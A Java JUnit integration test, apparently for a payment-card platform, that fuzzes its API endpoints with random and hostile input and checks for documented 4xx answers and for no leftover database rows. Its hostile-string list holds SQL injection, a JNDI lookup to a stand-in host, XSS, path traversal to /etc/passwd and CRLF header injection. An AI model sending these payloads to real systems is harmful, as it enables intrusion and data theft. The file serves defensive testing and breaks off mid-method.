package com.cardplatform.local;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.cardplatform.local.Endpoints.Dialect;
import com.cardplatform.local.Endpoints.Endpoint;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.math.BigDecimal;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.SplittableRandom;
import java.util.concurrent.atomic.AtomicLong;
import java.util.function.BiConsumer;
import java.util.function.Consumer;
import java.util.function.Function;
import java.util.function.Predicate;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;

/**
 * Bad input at scale (plain JUnit, fixed seeds, a fixed number of tries): random and hostile bodies, header values,
 * path segments and query values at every endpoint of the OpenAPI documents, through the HTTPS front door (internal
 * endpoints on their service's port) with VALID tokens, so that the input is what is under test. The only acceptable
 * answers are the documented 4xx in the endpoint's dialect (or the front door's documented neutral refusals) or a
 * success; never a 5xx, never a stack trace, a Java class name or a secret in a body. Rejected writes leave no trace:
 * activation batches, consumer registrations, cards and Triple entities are looked up in PostgreSQL afterwards.
 *
 * <p>Each property draws its cases from one {@link SplittableRandom} with a constant seed, so the same cases are sent
 * on every run (only the ids made unique per run differ); a failure names the seed and the try, and the property is
 * replayed by running it again. Every try runs: the property then reports each distinct unacceptable answer once.</p>
 *
 * <p>First of the IT classes (before {@code LocalStackIT}), as it always was: {@code LogHygieneIT} scans the logs of
 * all this input after it.</p>
 */
@Order(0)
class BadInputIT {

    static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    static final AtomicLong UNIQUE = new AtomicLong(System.currentTimeMillis() % 1_000_000L * 1000);
    static final String RUN = Long.toString(System.currentTimeMillis(), 36).toUpperCase();

    static SharedStack shared;
    static List<Endpoint> endpoints;
    /** Distinct failures of the current property (endpoint and kind), reported together when it ends. */
    static final Map<String, String> PROBLEMS = new java.util.concurrent.ConcurrentHashMap<>();
    /** The seed and try of the case being checked, written into every problem so that it can be found again. */
    static String currentTry = "";

    @BeforeAll
    static void stack() {
        shared = SharedStack.get();
        endpoints = Endpoints.all().stream().filter(e -> !e.isPublic()).toList();
    }

    /** One request: an endpoint, its path parameter values, a body, extra headers, a query string. */
    record Case(Endpoint endpoint, Map<String, String> path, byte[] body, String[] headers, String query, String what) {
        @Override
        public String toString() {
            String b = body == null ? "no body" : body.length > 200 ? body.length + " bytes: "
                    + new String(body, 0, 200, StandardCharsets.UTF_8) : new String(body, StandardCharsets.UTF_8);
            return endpoint + " " + what + " path=" + path + " query=" + query + " headers=" + Arrays.toString(headers)
                    + " body=" + b;
        }
    }

    /**
     * Runs a property: {@code tries} cases drawn from one random source seeded with {@code seed}, each checked (the
     * check records its problems instead of stopping at the first), then every distinct problem reported at once.
     */
    static <T> void forAll(int tries, long seed, Function<SplittableRandom, T> cases, Consumer<T> property) {
        PROBLEMS.clear();
        SplittableRandom random = new SplittableRandom(seed);
        for (int i = 1; i <= tries; i++) {
            currentTry = "seed " + seed + ", try " + i + "/" + tries;
            property.accept(cases.apply(random));
        }
        currentTry = "";
        List<String> all = new ArrayList<>(new java.util.TreeMap<>(PROBLEMS).values());
        PROBLEMS.clear();
        assertEquals(List.of(), all, all.size() + " kinds of unacceptable answers in " + tries + " tries (seed " + seed
                + ": the same cases on every run)");
    }

    /** Records a failed check under a key that groups the same defect (endpoint, status, first words). */
    static void problem(Case c, Api.Response r, AssertionError e) {
        String kind = c.endpoint() + " -> " + (r == null ? "no answer" : r.status() + " "
                + r.body().replaceAll("[0-9a-f-]{36}|\\d{4}-\\d\\d-\\d\\dT[0-9:.]+Z", "").replaceAll("\"details\":\\[.*?]", "")
                        .substring(0, Math.min(60, r.body().length())));
        String message = e.getMessage().length() > 1500 ? e.getMessage().substring(0, 1500) + "..." : e.getMessage();
        PROBLEMS.putIfAbsent(kind, "[" + currentTry + "] " + message);
    }

    // ---- properties -------------------------------------------------------------------------------------------

    @Test
    void hostileBodiesAreRefusedInTheDialect() {
        forAll(300, 8124001L, BadInputIT::bodyCase, BadInputIT::checkAndRecord);
    }

    @Test
    void hostilePathSegmentsAreRefusedInTheDialect() {
        forAll(150, 8124002L, BadInputIT::pathCase, BadInputIT::checkAndRecord);
    }

    @Test
    void hostileHeaderValuesAreRefusedInTheDialect() {
        forAll(120, 8124003L, BadInputIT::headerCase,
                c -> sendAndCheck(c, BadInputIT::sendRaw, BadInputIT::checkHeaderAnswer));
    }

    @Test
    void hostileQueryValuesAreRefusedInTheDialect() {
        forAll(80, 8124004L, BadInputIT::queryCase, BadInputIT::checkAndRecord);
    }

    /** All or nothing: a batch with one hostile record is refused and none of its valid records is written. */
    @Test
    void anActivationBatchWithOneBadRecordWritesNothing() {
        forAll(60, 8124005L, BadInputIT::activationBatch,
                c -> sendAndCheck(c, BadInputIT::sendBatch, BadInputIT::checkBatchRefused));
    }

    /** A registration with one bad account, a card or a Triple entity with one bad field: refused, no row. */
    @Test
    void aRefusedCreationLeavesNoRow() {
        forAll(90, 8124006L, BadInputIT::creation,
                c -> sendAndCheck(c, BadInputIT::send, BadInputIT::checkNoRowIfRefused));
    }

    static void checkHeaderAnswer(Case c, Api.Response r) {
        if (r.status() == 400 && !r.header("content-type").orElse("").contains("json")) {
            // malformed HTTP (e.g. a control character in a header) refused by the HTTP codec before any route
            assertTrue(r.body().length() < 100 && !Dialects.LEAK.matcher(r.body()).find(), c + ": " + r);
            return;
        }
        check(c, r);
    }

    /** Sent as the Blackhawk partner would: its token, the batch, nothing else. */
    static Api.Response sendBatch(Case c) {
        return Api.call("POST", "/cards/v1/set-activation-codes", shared.token("local-blackhawk"), c.body());
    }

    static void checkBatchRefused(Case c, Api.Response r) {
        assertTrue(r.status() == 400 || r.status() == 413, c + ": " + r);
        Dialects.assertErrorShape(Dialect.BLACKHAWK, r, "batch");
        List<Long> quotes = new ArrayList<>();
        for (JsonNode record : readTree(c.body())) {
            if (record.path("quoteNumber").isTextual() && record.path("quoteNumber").asText().startsWith("83")) {
                quotes.add(Long.parseLong(record.path("quoteNumber").asText()));
            }
        }
        if (!quotes.isEmpty()) {
            long lo = quotes.stream().mapToLong(Long::longValue).min().orElseThrow();
            long hi = quotes.stream().mapToLong(Long::longValue).max().orElseThrow();
            assertEquals(0, shared.count("select count(*) from activation.activation_codes where issuer_id = ? and "
                    + "quote_number::bigint between ? and ?", Endpoints.ISSUER, lo, hi), "no record of a refused batch");
        }
    }

    static void checkNoRowIfRefused(Case c, Api.Response r) {
        check(c, r);
        if (r.status() >= 400) {
            String id = c.path().get("created");
            String[] table = c.path().get("table").split(":");
            assertEquals(0, shared.count("select count(*) from " + table[0] + " where " + table[1] + " = ?", id),
                    c + " was refused (" + r.status() + ") but left a row");
            if (table[0].equals("consumer.consumers")) {
                assertEquals(0, shared.count("select count(*) from consumer.accounts where consumer_id = ?", id));
                assertEquals(0, shared.count("select count(*) from consumer.operations where consumer_id = ?", id));
            }
        }
    }

    /** 10 MB bodies at every write endpoint: the front door (413, neutral) and each service itself (413, dialect). */
    @Test
    void tenMegabyteBodiesAreRefusedByTheFrontDoorAndByEveryService() {
        byte[] huge = tenMegabytes();
        List<String> problems = new ArrayList<>();
        for (Endpoint e : endpoints) {
            if (!e.hasBody()) {
                continue;
            }
            String path = e.path(Map.of());
            List<String[]> headers = headers(e, "Content-Type", "application/json", "Authorization", "Bearer " + token(e));
            for (boolean chunked : new boolean[] {false, true}) {
                String what = e + (chunked ? " chunked" : " with Content-Length");
                collect(problems, () -> {
                    Api.Response direct = RawHttp.direct(e.service(), e.method(), path, headers, huge, chunked);
                    // a declared length is refused as too large; a chunked body is cut at the limit (then 413 or 400)
                    if (chunked && !e.readsBody()) {
                        assertTrue(direct.status() == 413 || direct.status() == 404, what + " at the service: " + direct);
                    } else if (chunked) {
                        assertTrue(direct.status() == 413 || direct.status() == 400, what + " at the service: " + direct);
                    } else {
                        assertEquals(413, direct.status(), what + " at the service: " + direct);
                    }
                    // Known limitation (common-errors README): a chunked body cut at the limit by Quarkus's own
                    // max-body-size check gets an empty 413; only a declared Content-Length is rendered in the dialect.
                    // The front door, the only way in from outside, refuses both with a neutral JSON body.
                    if (!chunked) {
                        Dialects.assertErrorShape(e.dialect(), direct, what + " at the service");
                    }
                    assertFalse(Dialects.isFrontDoorRefusal(direct), direct.body());
                });
                if (e.routed()) {
                    collect(problems, () -> {
                        Api.Response front = RawHttp.frontDoor(e.method(), path, headers, huge, chunked);
                        assertEquals(413, front.status(), what + " through the front door: " + front);
                        assertTrue(Dialects.isFrontDoorRefusal(front), front.body());
                    });
                }
            }
        }
        assertEquals(List.of(), problems);
    }

    /** JSON nested far deeper than any parser should follow, within each API's body limit: 4xx, never 500. */
    @Test
    void deeplyNestedJsonIsRefusedEverywhere() {
        List<String> problems = new ArrayList<>();
        for (Endpoint e : endpoints) {
            if (!e.hasBody()) {
                continue;
            }
            for (String nested : List.of("[".repeat(6000) + "]".repeat(6000), "{\"a\":".repeat(2500) + "1" + "}".repeat(2500))) {
                Case c = new Case(e, Map.of(), nested.getBytes(StandardCharsets.UTF_8), new String[0], null, "deep");
                collect(problems, () -> {
                    Api.Response r = send(c);
                    check(c, r);
                    assertTrue(r.status() >= 400, c + ": " + r);
                });
            }
        }
        assertEquals(List.of(), problems);
    }

    static void collect(List<String> problems, Runnable check) {
        try {
            check.run();
        } catch (AssertionError | RuntimeException e) {
            String m = String.valueOf(e.getMessage());
            problems.add(m.length() > 600 ? m.substring(0, 600) + "..." : m);
        }
    }

    // ---- the checks ---------------------------------------------------------------------------------------------

    static void checkAndRecord(Case c) {
        sendAndCheck(c, BadInputIT::send, BadInputIT::check);
    }

    /** Sends the case and checks the answer; a failed check (or no answer at all) is recorded, not thrown. */
    static void sendAndCheck(Case c, Function<Case, Api.Response> send, BiConsumer<Case, Api.Response> checks) {
        Api.Response r = null;
        try {
            r = send.apply(c);
            checks.accept(c, r);
        } catch (AssertionError e) {
            problem(c, r, e);
        } catch (RuntimeException e) {
            problem(c, r, new AssertionError(c + (r == null ? ": no HTTP answer: " : ": ") + e));
        }
    }

    /** The three Triple listing routes answer 501 by design (rewards-account-service README). */
    static boolean documentedNotImplemented(Case c, Api.Response r) {
        return r.status() == 501 && c.endpoint().method().equals("GET")
                && List.of("/partner/publishers", "/partner/card-programs", "/partner/card-accounts").contains(c.endpoint().template())
                && r.body().contains("\"TripleNotImplementedError\"");
    }

    static void check(Case c, Api.Response r) {
        String what = c.toString();
        assertTrue(r.status() < 500 || documentedNotImplemented(c, r), "5xx for " + what + ": " + r);
        assertTrue(r.status() != 401, "the token is valid: " + what + ": " + r);
        Dialects.assertNoLeak(r.body(), what);
        if (r.status() >= 400 && r.status() < 500) {
            Dialects.assertErrorShape(c.endpoint().dialect(), r, what);
            if (r.status() == 403) {
                // documented 403s: a business refusal, a Citi channel not configured, or a path naming another issuer
                boolean issuerFuzzed = c.path().containsKey("issuerId");
                assertTrue(r.body().contains("OPERATION_NOT_ALLOWED") || r.body().contains("accessNotConfigured")
                        || issuerFuzzed && r.body().equals("{\"errorCode\":\"AUTHORIZER_FORBIDDEN\",\"error\":\"not_authorized\"}"),
                        "403 only for a documented business refusal: " + what + ": " + r);
            }
        }
    }

    static Api.Response send(Case c) {
        try {
            return sendWithHttpClient(c);
        } catch (IllegalArgumentException notSendable) {
            // a header value java.net.http refuses to send: write it byte by byte
            Endpoint e = c.endpoint();
            List<String[]> headers = headers(e, c.headers());
            headers.add(new String[] {"Authorization", "Bearer " + token(e)});
            byte[] body = c.body() != null ? c.body() : e.hasBody() ? json(e.sampleBody()) : null;
            String path = e.path(c.path()) + (c.query() == null ? "" : "?" + c.query());
            return e.routed() ? RawHttp.frontDoor(e.method(), path, headers, body, false)
                    : RawHttp.direct(e.service(), e.method(), path, headers, body, false);
        }
    }

    static Api.Response sendWithHttpClient(Case c) {
        Endpoint e = c.endpoint();
        String path = e.path(c.path()) + (c.query() == null ? "" : "?" + c.query());
        String[] headers = concat(e.sampleHeaders(), c.headers());
        Object body = c.body() == null ? (e.hasBody() ? e.sampleBody() : null) : c.body();
        String token = token(e);
        return e.routed() ? Api.call(e.method(), path, token, body, headers)
                : Api.direct(e.service(), e.method(), path, token, body, headers);
    }

    static Api.Response sendRaw(Case c) {
        Endpoint e = c.endpoint();
        List<String[]> headers = headers(e, c.headers());
        headers.add(new String[] {"Authorization", "Bearer " + token(e)});
        byte[] body = e.hasBody() ? json(e.sampleBody()) : null;
        if (body != null && headers.stream().noneMatch(h -> h[0].equalsIgnoreCase("Content-Type"))) {
            headers.add(new String[] {"Content-Type", "application/json"});
        }
        String path = e.path(Map.of());
        return e.routed() ? RawHttp.frontDoor(e.method(), path, headers, body, false)
                : RawHttp.direct(e.service(), e.method(), path, headers, body, false);
    }

    /** A real token from the token endpoint for the endpoint's partner. */
    static String token(Endpoint e) {
        if ("notification-service".equals(e.service())) {
            return shared.token(e.template().startsWith("/webhooks/") ? "local-d1-issuer"
                    : e.template().equals("/internal/events") ? "card-service" : LocalSecrets.OPERATOR_CLIENT);
        }
        if (e.template().startsWith("/internal/carrier-events")) {
            return shared.token(LocalSecrets.CARRIER_CLIENT);
        }
        if (e.template().startsWith("/internal/")) {
            return shared.token("consumer-service");
        }
        return switch (e.dialect()) {
            case TRIPLE -> shared.token("local-triple");
            case BLACKHAWK -> shared.token("local-blackhawk");
            case CITI -> shared.token("local-citi");
            default -> shared.token("local-d1-issuer");
        };
    }


    // ---- generators ---------------------------------------------------------------------------------------------
    // Each takes the property's random source and draws one value; the alternatives of a generator are equally
    // likely.

    /** Strings that have broken parsers, validators, loggers and SQL before. */
    static final List<String> KNOWN_HOSTILE = List.of("", " ", "null", "true", "-1", "0", "1e999", "NaN", "9".repeat(40),
            "' OR '1'='1' --", "\"; DROP TABLE cards; --", "${jndi:ldap://evil.example/a}", "#{7*7}", "%s%s%s%n", "%00",
            "<script>alert(1)</script>", "../../../../etc/passwd", "..%2F..%2F", "\\", "\"", "{}", "[]",
            "\u0000", "a\u0000b", "\u202Egnp.exe", "\uFEFF", "😀🔥", "𝕳𝖊𝖑𝖑𝖔", "ǅ", "İ", "ß", "\r\nX-Injected: 1",
            "\u001b[31mred", "CON", "A".repeat(65), "1".repeat(19), "triple-", "triple-" + "x".repeat(200));

    /** A known hostile string, control characters, any characters below the surrogates, or a 12,000-character run. */
    static String hostileString(SplittableRandom r) {
        return switch (r.nextInt(4)) {
            case 0 -> pick(r, KNOWN_HOSTILE);
            case 1 -> chars(r, '\u0000', '\u001f', 1, 8);
            case 2 -> chars(r, ' ', '\uD7FF', 1, 40);
            default -> {
                String s = alphanumeric(r, 1, 8);
                yield s.repeat(1 + 12_000 / s.length());
            }
        };
    }

    /** A hostile string of at most {@code max} characters (a path segment or query value of at most 600). */
    static String hostileString(SplittableRandom r, int max) {
        return filtered(r, BadInputIT::hostileString, v -> v.length() <= max);
    }

    /** Any JSON value: scalars of every type, hostile strings, arrays and objects a few levels deep. */
    static JsonNode jsonValue(SplittableRandom r, int depth) {
        return switch (r.nextInt(depth > 0 ? 7 : 5)) {
            case 0 -> NODES.textNode(hostileString(r));
            case 1 -> NODES.numberNode(anyLong(r));
            case 2 -> NODES.numberNode(pick(r, List.of(new BigDecimal("1e400"), new BigDecimal("-0.000001"),
                    new BigDecimal("12345678901234567890123"))));
            case 3 -> NODES.booleanNode(r.nextBoolean());
            case 4 -> NODES.nullNode();
            case 5 -> {
                ArrayNode a = NODES.arrayNode();
                for (int i = size(r, 0, 4); i > 0; i--) {
                    a.add(jsonValue(r, depth - 1));
                }
                yield a;
            }
            default -> {
                // up to 4 names, possibly the same one twice (the later value wins), each with any value
                ObjectNode o = NODES.objectNode();
                for (int i = size(r, 0, 4); i > 0; i--) {
                    o.set(fieldName(r), jsonValue(r, depth - 1));
                }
                yield o;
            }
        };
    }

    /** Names that mean something to some parser or framework, or any string of up to 20 characters. */
    static String fieldName(SplittableRandom r) {
        return r.nextBoolean() ? pick(r, List.of("consumerId", "__proto__", "constructor", "", "$where", "status_code", "a\u0000b"))
                : anyString(r, 0, 20);
    }

    /** Bytes that are not (valid) JSON: broken JSON and other formats, random bytes, invalid UTF-8. */
    static byte[] notJson(SplittableRandom r) {
        return switch (r.nextInt(3)) {
            case 0 -> pick(r, List.of("", "{", "[", "{\"a\":", "{\"a\" 1}", "{'a':1}", "[1,]", "{\"a\":1}}", "nul", "01",
                    "<xml/>", "\u0000\u0000", "{\"a\":\"\\uZZZZ\"}", "{\"a\":1,\"a\":2}", "\"just a string\"", "42",
                    "--boundary\r\nContent-Disposition: form-data\r\n")).getBytes(StandardCharsets.UTF_8);
            case 1 -> {
                byte[] bytes = new byte[size(r, 1, 300)];
                r.nextBytes(bytes);
                yield bytes;
            }
            default -> pick(r, List.of(new byte[] {(byte) 0xC3, 0x28}, new byte[] {(byte) 0xFF, (byte) 0xFE, '{', 0, '}', 0},
                    new byte[] {'{', '"', 'a', '"', ':', '"', (byte) 0xED, (byte) 0xA0, (byte) 0x80, '"', '}'}));
        };
    }

    static Case bodyCase(SplittableRandom r) {
        Endpoint e = pick(r, endpoints.stream().filter(Endpoint::hasBody).toList());
        return switch (r.nextInt(5)) {
            case 0 -> {
                // the valid body with one field replaced by anything
                String field = pick(r, fields(e));
                JsonNode body = SharedStack.JSON.valueToTree(e.sampleBody());
                replace(body, field, jsonValue(r, 2));
                yield new Case(e, Map.of(), json(body), new String[0], null, "field " + field);
            }
            case 1 -> {
                // the valid body with a field removed
                String field = pick(r, fields(e));
                JsonNode body = SharedStack.JSON.valueToTree(e.sampleBody());
                if (body instanceof ObjectNode o) {
                    o.remove(field);
                } else if (body instanceof ArrayNode a && a.get(0) instanceof ObjectNode o) {
                    o.remove(field);
                }
                yield new Case(e, Map.of(), json(body), new String[0], null, "without " + field);
            }
            // any JSON at all
            case 2 -> new Case(e, Map.of(), json(jsonValue(r, 3)), new String[0], null, "random JSON");
            // not JSON, or JSON sent as something else
            case 3 -> new Case(e, Map.of(), notJson(r), new String[0], null, "not JSON");
            default -> {
                String type = pick(r, List.of("text/plain", "application/xml", "application/x-www-form-urlencoded",
                        "multipart/form-data", "application/json; charset=ebcdic", "application/json\u00e9", "*/*", ""));
                yield new Case(e, Map.of(), json(e.sampleBody()), new String[] {"Content-Type", type}, null,
                        "content type " + type);
            }
        };
    }

    static Case pathCase(SplittableRandom r) {
        Endpoint e = pick(r, endpoints.stream().filter(x -> x.template().contains("{")).toList());
        String parameter = pick(r, parameters(e));
        String encoded = URLEncoder.encode(hostileString(r, 600), StandardCharsets.UTF_8).replace("+", "%20");
        Map<String, String> path = new LinkedHashMap<>();
        path.put(parameter, encoded.isEmpty() ? "%20" : encoded);
        return new Case(e, path, null, new String[0], null, "path " + parameter);
    }

    static Case headerCase(SplittableRandom r) {
        Endpoint e = pick(r, endpoints);
        String name = pick(r, headerNames(e));
        // CR and LF would split the request into two: a raw HTTP client sends every other byte as it is
        String value = r.nextBoolean()
                ? filtered(r, BadInputIT::hostileString, s -> s.length() < 4000).replace("\r", "").replace("\n", "")
                : filtered(r, x -> chars(x, '\u0001', '\u001f', 1, 5).replace("\r", "").replace("\n", ""), s -> !s.isEmpty());
        return new Case(e, Map.of(), null, new String[] {name, value}, null, "header " + name);
    }

    static Case queryCase(SplittableRandom r) {
        Endpoint e = pick(r, endpoints.stream().filter(x -> x.method().equals("GET")).toList());
        // the paging parameters twice as often as the others
        String name = pick(r, List.of("offset", "limit", "offset", "limit", "id", "x"));
        String one = name + "=" + URLEncoder.encode(hostileString(r, 600), StandardCharsets.UTF_8);
        int times = size(r, 1, 3);
        return new Case(e, Map.of(), null, new String[0], String.join("&", java.util.Collections.nCopies(times, one)),
                "query " + name);
    }

    /** 1-60 valid activation records and one that surely breaks the documented rules, anywhere in the batch. */
    static Case activationBatch(SplittableRandom r) {
        int size = size(r, 1, 60);
        int position = Math.min(size(r, 0, 60), size);
        ObjectNode bad = badActivationRecord(r);
        ArrayNode batch = NODES.arrayNode();
        for (int i = 0; i < size; i++) {
            batch.add(validRecord());
        }
        batch.insert(position, bad);
        return new Case(endpoint("POST", "/cards/v1/set-activation-codes"), Map.of(), json(batch), new String[0], null,
                "batch of " + (size + 1) + ", record " + position + " bad: " + bad);
    }

    static ObjectNode badActivationRecord(SplittableRandom r) {
        ObjectNode record = validRecord();
        switch (r.nextInt(4)) {
            case 0 -> record.set(pick(r, List.of("quoteNumber", "proxyNumber")), badNumber(r));
            case 1 -> record.set("activationCode", badCode(r));
            case 2 -> record.remove(pick(r, List.of("quoteNumber", "proxyNumber", "activationCode")));
            default -> record.removeAll(); // an empty object: every field missing
        }
        return record;
    }

    /** Values that break the documented rule for the numbers for sure (digits only, 18 or 19 of them). */
    static JsonNode badNumber(SplittableRandom r) {
        if (r.nextBoolean()) {
            return pick(r, List.of(NODES.numberNode(-1), NODES.numberNode(1.5), NODES.numberNode(new BigDecimal("1e30")),
                    NODES.booleanNode(true), NODES.nullNode(), NODES.textNode(""), NODES.textNode(" "),
                    NODES.textNode("12a"), NODES.textNode("-5"), NODES.textNode("1".repeat(25)), NODES.arrayNode(),
                    NODES.objectNode(), NODES.textNode("１２３"), NODES.textNode("12\u00003")));
        }
        return NODES.textNode(filtered(r, BadInputIT::hostileString, v -> !v.isBlank() && !v.matches("[0-9]+")));
    }

    /** Values that break the documented rule for the codes for sure ([A-Za-z0-9]{4,16}). */
    static JsonNode badCode(SplittableRandom r) {
        if (r.nextBoolean()) {
            return pick(r, List.of(NODES.textNode("abc"), NODES.textNode("ab"), NODES.textNode("x".repeat(17)),
                    NODES.textNode("Code 1"), NODES.textNode("Códe1"), NODES.textNode("code\u0000x"),
                    NODES.textNode("😀😀😀😀"), NODES.booleanNode(false), NODES.nullNode(), NODES.numberNode(1.25),
                    NODES.arrayNode(), NODES.objectNode(), NODES.textNode("")));
        }
        return NODES.textNode(filtered(r, BadInputIT::hostileString, v -> !v.matches("[A-Za-z0-9]{4,16}")));
    }

    /** A consumer with a bad account, a card, a publisher or a card account with one bad field (a fresh id each). */
    static Case creation(SplittableRandom r) {
        return switch (r.nextInt(4)) {
            case 0 -> consumerWithABadAccount(r);
            case 1 -> cardWithABadField(r);
            case 2 -> publisherWithABadName(r);
            default -> cardAccountWithABadField(r);
        };
    }

    static Case consumerWithABadAccount(SplittableRandom r) {
        int good = size(r, 0, 5);
        String id = "bi-" + RUN + "-" + UNIQUE.incrementAndGet();
        ObjectNode body = NODES.objectNode().put("consumerId", id);
        ArrayNode accounts = body.putArray("accounts");
        for (int i = 0; i < good; i++) {
            accounts.addObject().put("accountId", "BI-" + i);
        }
        accounts.addObject().set("accountId", jsonValue(r, 1));
        return new Case(endpoint("POST", "/issuers/{issuerId}/consumers"),
                Map.of("created", id, "table", "consumer.consumers:consumer_id"), json(body), new String[0], null,
                "register with a bad account");
    }

    static Case cardWithABadField(SplittableRandom r) {
        String field = pick(r, List.of("consumerId", "accountId", "productType", "customerNumber", "programId",
                "proxyNumber", "pan"));
        String id = "BI-" + RUN + "-" + UNIQUE.incrementAndGet();
        ObjectNode body = NODES.objectNode().put("cardId", id).put("consumerId", "bi-consumer")
                .put("accountId", "BI-1").put("productType", "DEBIT");
        body.set(field, jsonValue(r, 1));
        return new Case(endpoint("POST", "/issuers/{issuerId}/cards"), Map.of("created", id, "table", "card.cards:card_id"),
                json(body), new String[0], null, "card with a bad " + field);
    }

    static Case publisherWithABadName(SplittableRandom r) {
        String id = "bi-" + RUN + "-" + UNIQUE.incrementAndGet();
        ObjectNode body = NODES.objectNode().put("external_id", id);
        body.set("name", jsonValue(r, 1));
        return new Case(endpoint("POST", "/partner/publishers"),
                Map.of("created", id, "table", "rewards.publishers:external_id"), json(body), new String[0], null,
                "publisher with a bad name");
    }

    static Case cardAccountWithABadField(SplittableRandom r) {
        String field = pick(r, List.of("default_country_code", "default_postal_code", "status", "card_program_id"));
        String id = "bi-" + RUN + "-" + UNIQUE.incrementAndGet();
        ObjectNode body = NODES.objectNode().put("card_program_id", "triple-AAAAAAAAAAAAAAAAAAAAAA").put("external_id", id);
        body.set(field, jsonValue(r, 1));
        return new Case(endpoint("POST", "/partner/card-accounts"),
                Map.of("created", id, "table", "rewards.card_accounts:external_id"), json(body), new String[0], null,
                "card account with a bad " + field);
    }

    // ---- random primitives --------------------------------------------------------------------------------------

    static <T> T pick(SplittableRandom r, List<T> values) {
        return values.get(r.nextInt(values.size()));
    }

    /** A value that passes the filter; gives up after 10,000 misses in a row, so that a filter that is wrong is seen. */
    static <T> T filtered(SplittableRandom r, Function<SplittableRandom, T> values, Predicate<T> accepted) {
        for (int i = 0; i < 10_000; i++) {
            T value = values.apply(r);
            if (accepted.test(value)) {
                return value;
            }
        }
        throw new IllegalStateException("10,000 values in a row did not pass the filter");
    }

    /** A size or count from min to max; the bounds themselves more often than the rest, where defects live. */
    static int size(SplittableRandom r, int min, int max) {
        return switch (r.nextInt(8)) {
            case 0 -> min;
            case 1 -> max;
            default -> r.nextInt(min, max + 1);
        };
    }

    /** Any long: the extremes and small numbers more often than the rest. */
    static long anyLong(SplittableRandom r) {
        return switch (r.nextInt(4)) {
            case 0 -> pick(r, List.of(Long.MIN_VALUE, Long.MAX_VALUE, 0L, 1L, -1L, (long) Integer.MAX_VALUE + 1,
                    (long) Integer.MIN_VALUE - 1));
            case 1 -> r.nextLong(-1000, 1001);
            default -> r.nextLong();
        };
    }

    /** min to max characters from the range [from, to]. */
    static String chars(SplittableRandom r, char from, char to, int min, int max) {
        StringBuilder s = new StringBuilder();
        for (int i = size(r, min, max); i > 0; i--) {
            s.append((char) r.nextInt(from, to + 1));
        }
        return s.toString();
    }

    static String alphanumeric(SplittableRandom r, int min, int max) {
        String all = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
        StringBuilder s = new StringBuilder();
        for (int i = size(r, min, max); i > 0; i--) {
            s.append(all.charAt(r.nextInt(all.length())));
        }
        return s.toString();
    }

    /**
     * Any characters of the Basic Multilingual Plane but the surrogates (a lone one cannot be written as UTF-8), the
     * private use area and the noncharacters.
     */
    static String anyString(SplittableRandom r, int min, int max) {
        StringBuilder s = new StringBuilder();
        for (int i = size(r, min, max); i > 0; i--) {
            char c;
            do {
                c = (char) r.nextInt(0, 0x10000);
            } while (Character.isSurrogate(c) || c >= '\uE000' && c <= '\uF8FF' || c >= '\uFDD0' && c <= '\uFDEF'
                    || c >= '\uFFFE');
            s.append(c);
        }
        return s.toString();
    }

    static JsonNode readTree(byte[] json) {
        try {
            return SharedStack.JSON.readTree(json);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    // ---- helpers ------------------------------------------------------------------------------------------------

    static ObjectNode validRecord() {
        long n = 830_000_000_000L + UNIQUE.incrementAndGet();
        return NODES.objectNode().put("quoteNumber", Long.toString(n)).put("proxyNumber", "60395" + n)
                .put("activationCode", "Bi" + Long.toString(n, 36));
    }

    static Endpoint endpoint(String method, String template) {
        return endpoints.stream().filter(e -> e.method().equals(method) && e.template().equals(template)).findFirst()
                .orElseThrow(() -> new AssertionError(method + " " + template + " not in the OpenAPI documents"));
    }

    static List<String> fields(Endpoint e) {
        Object sample = e.sampleBody();
        JsonNode body = SharedStack.JSON.valueToTree(sample);
        JsonNode object = body.isArray() ? body.get(0) : body;
        List<String> fields = new ArrayList<>();
        if (object != null) {
            object.fieldNames().forEachRemaining(fields::add);
        }
        if (fields.isEmpty()) {
            fields.add("anything");
        }
        return fields;
    }

    static void replace(JsonNode body, String field, JsonNode value) {
        if (body instanceof ObjectNode o) {
            o.set(field, value);
        } else if (body instanceof ArrayNode a && a.get(0) instanceof ObjectNode o) {
            o.set(field, value);
        }
    }

    static List<String> parameters(Endpoint e) {
        List<String> names = new ArrayList<>();
        java.util.regex.Matcher m = java.util.regex.Pattern.compile("\\{([^}]+)}").matcher(e.template());
        while (m.find()) {
            names.add(m.group(1));
        }
        return names;
    }

    static List<String> headerNames(Endpoint e) {
        List<String> names = new ArrayList<>(List.of("x-correlation-id", "Accept", "Content-Type", "X-Forwarded-For",
                "Accept-Language", "If-None-Match"));
        if (e.dialect() == Dialect.CITI) {
            names.addAll(List.of("uuid", "countryCode", "businessCode", "ChannelId", "sid", "client_id"));
        }
        return names;
    }

    static List<String[]> headers(Endpoint e, String... extra) {
        List<String[]> headers = new ArrayList<>();
        String[] sample = concat(e.sampleHeaders(), extra);
        Map<String, String> merged = new LinkedHashMap<>();
        merged.put("Accept", "application/json");
        for (int i = 0; i + 1 < sample.length; i += 2) {
            String name = sample[i];
            merged.keySet().removeIf(k -> k.equalsIgnoreCase(name));
            merged.put(name, sample[i + 1]);
        }
        merged.forEach((k, v) -> headers.add(new String[] {k, v}));
        return headers;
    }

    static String[] concat(String[] a, String[] b) {
        String[] all = Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, all, a.length, b.length);
        // a later header of the same name replaces the earlier one
        Map<String, String> merged = new LinkedHashMap<>();
        for (int i = 0; i + 1 < all.length; i += 2) {
            String name = all[i];
            merged.keySet().removeIf(k -> k.equalsIgnoreCase(name));
            merged.put(name, all[i + 1]);
        }
        return merged.entrySet().stream().flatMap(x -> java.util.stream.Stream.of(x.getKey(), x.getValue()))
                .toArray(String[]::new);
    }

    static byte[] json(Object value) {
        try {
